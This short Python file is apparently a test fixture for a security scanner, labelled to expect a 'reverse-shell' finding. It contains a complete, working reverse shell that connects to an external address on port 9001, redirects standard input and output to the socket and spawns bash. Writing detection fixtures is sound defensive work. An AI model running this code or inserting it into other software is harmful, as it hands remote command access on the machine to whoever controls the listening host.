# expect: reverse-shell 8:5
import os, pty, socket

s = socket.create_connection(("198.51.100.4", 9001))
fd = s.fileno()
for target in (0, 1, 2):
    os.dup2(fd, target)
pty.spawn("bash")
